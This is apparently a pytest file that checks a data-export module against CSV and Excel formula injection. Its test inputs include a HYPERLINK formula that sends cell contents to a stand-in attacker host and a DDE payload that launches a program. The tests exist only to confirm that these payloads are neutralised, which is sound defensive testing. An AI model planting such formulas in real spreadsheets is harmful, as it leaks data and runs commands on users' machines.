"""Issue 20, injection edges of the downloads: the CSV header block cannot put a live cell in column B, and Excel
never stores a formula hidden behind a control character. Real csv and openpyxl readers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from evidence.export import neutralise, to_csv_bytes, to_xlsx_bytes

EVIL = 'x,=HYPERLINK("http://evil.example/?"&A1,"click")'
HEADER = [("snapshot", "2026-12-01"), ("filters", f"search={EVIL}"), ("method", "DL")]


def test_a_comma_in_a_header_value_stays_in_the_first_cell() -> None:
    data = to_csv_bytes(pd.DataFrame({"a": [1]}), HEADER)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert [len(r) for r in rows[:3]] == [1, 1, 1]  # each header line is one cell, starting with '#'
    assert all(r[0].startswith("# ") for r in rows[:3]) and EVIL in rows[1][0]
    back = pd.read_csv(io.BytesIO(data), skiprows=len(HEADER))
    assert back.to_dict("list") == {"a": [1]}


def test_xlsx_cleans_control_characters_before_neutralising() -> None:
    df = pd.DataFrame({"term": ["\x01=1+1", "\x02\x03@SUM(A1)", "=plain", "ok"]})
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df, [("filters", "\x01=cmd|' /C calc'!A0")])))
    values = [c.value for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)]
    formulas = [v for v in values if v.startswith(("=", "+", "-", "@"))]
    assert formulas == [], formulas
    assert "'=1+1" in values and "'@SUM(A1)" in values and "'=plain" in values and "ok" in values


def test_csv_neutralises_a_formula_behind_control_characters() -> None:
    assert neutralise("\x01=1+1") == "'\x01=1+1" and neutralise("-5") == "'-5" and neutralise("a=b") == "a=b"
    data = to_csv_bytes(pd.DataFrame({"t": ["\x01=1+1"]})).decode()
    assert "'\x01=1+1" in data
